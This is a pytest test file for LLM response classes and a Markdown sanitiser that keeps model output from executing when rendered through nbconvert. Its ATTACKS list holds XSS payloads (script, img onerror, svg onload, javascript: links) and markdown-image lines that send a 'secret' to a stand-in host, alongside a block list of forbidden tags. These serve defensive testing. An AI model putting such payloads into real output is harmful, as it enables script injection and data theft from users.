"""A response is its text, carries LlamaIndex's names, and is shown as Markdown that can do nothing."""

import tracemalloc
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters import markdown2html

from logitlab.llms import ChatMessage, ChatResponse, CompletionResponse, LogProb
from logitlab.llms.markdown import safe_markdown
from logitlab.llms.responses import Prefix


@pytest.mark.parametrize("kind", [CompletionResponse, ChatResponse])
def test_it_is_its_text(kind):
    response = kind("a **b**", delta="b", raw={"done": True}, additional_kwargs={"n": 1}, options={"seed": 1})
    assert str(response) == response.text == "a **b**"
    assert f"{response}" == "a **b**"
    assert repr(response) == f"{kind.__name__}('a **b**')"
    assert response._repr_markdown_() == "a **b**"
    assert (response.delta, response.raw, response.logprobs) == ("b", {"done": True}, None)
    assert (response.additional_kwargs, response.options) == ({"n": 1}, {"seed": 1})


def test_a_chat_response_has_a_message():
    message = ChatResponse("Hi", raw={"message": {"role": "assistant", "thinking": "Hm"}}).message
    assert message == ChatMessage("assistant", "Hi", {"thinking": "Hm"})
    assert ChatResponse("Hi").message == ChatMessage("assistant", "Hi")
    assert str(message) == message.text == message.content == "Hi"


def test_a_prefix_does_not_grow_with_its_list():
    pieces, logprobs = ["a", "b"], [LogProb("a", -1.0)]
    response = CompletionResponse(Prefix(pieces), logprobs=Prefix(logprobs))
    pieces.append("c")
    logprobs.append(LogProb("c", -2.0))
    assert response.text == "ab"
    assert response.logprobs == [LogProb("a", -1.0)]


def test_a_stream_of_responses_takes_linear_memory():
    """5000 responses of a 500 kB answer, all kept: joined at once they would be 1.25 GB."""
    pieces, kept = [], []
    tracemalloc.start()
    for i in range(5000):
        pieces.append(f"{i:100d}")
        kept.append(CompletionResponse(Prefix(pieces)))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert kept[1].text == f"{0:100d}{1:100d}"
    assert peak < 20e6


class Seen(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += [name for name, _ in attributes]

    def handle_data(self, data):
        self.text += data


def shown(text):
    """What nbconvert makes of it: the strictest test here, as nothing sanitises its pages afterwards."""
    return Seen(markdown2html(safe_markdown(text)))


ATTACKS = [
    "<script>alert(1)</script>",
    "a <img src=x onerror=alert(1)> b",
    "![steal](http://example.org/?q=secret)",
    "![steal][ref]\n\n[ref]: http://example.org/",
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "``` \n```\n<script>alert(1)</script>\n",
    "`` ` <script>alert(1)</script> `",
    "~~~\n</code></pre><script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "- `\n- <script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><svg onload=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "!\\[a](http://example.org/)",
    "<style>body{display:none}</style>",
    "<javascript:alert(1)>",
    "```a`<img src=x>`",
]
FORBIDDEN = {"script", "img", "style", "svg", "iframe", "object", "embed", "link", "meta", "base", "form"}


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_model_writes_can_do_nothing(text):
    seen = shown(text)
    assert not FORBIDDEN & set(seen.tags)
    assert not [name for name in seen.attributes if name.startswith("on") or name == "src"]


@given(
    st.lists(st.sampled_from([*"`~!<>&[]()\\ \n-*_$#|:a1\t", "```", "~~~", "<img src=x>", "<script>", "](h"]))
)
def test_no_mixture_of_marks_makes_a_tag(parts):
    seen = shown("".join(parts))
    assert not FORBIDDEN & set(seen.tags)


@pytest.mark.parametrize(
    ("text", "tag"),
    [("**a**", "strong"), ("- a\n- b", "li"), ("# a", "h1"), ("1. a\n2. b", "ol"), ("[a](http://b.org)", "a"),
     ("`a`", "code"), ("```python\na\n```", "pre"), ("| a |\n| - |\n| b |", "td")],
)  # fmt: skip
def test_markdown_stays(text, tag):
    assert tag in shown(text).tags


@pytest.mark.parametrize(
    "code", ["if a < b and c > d:", "List<int> x; /* *a* _b_ */", "a & b &amp; c", "![a](b)"]
)
@pytest.mark.parametrize("form", ["`{}`", "``{}``", "```\n{}\n```", "~~~c\n{}\n~~~", "text `{}` text"])
def test_code_is_shown_as_it_is(code, form):
    seen = shown(form.format(code))
    assert "code" in seen.tags
    assert code in seen.text


@pytest.mark.parametrize("text", ["1 < 2 && 3 > 2", "AT&T", "x &lt; y", "wow! [a]"])
def test_text_is_shown_as_it_is(text):
    assert text in shown(text).text
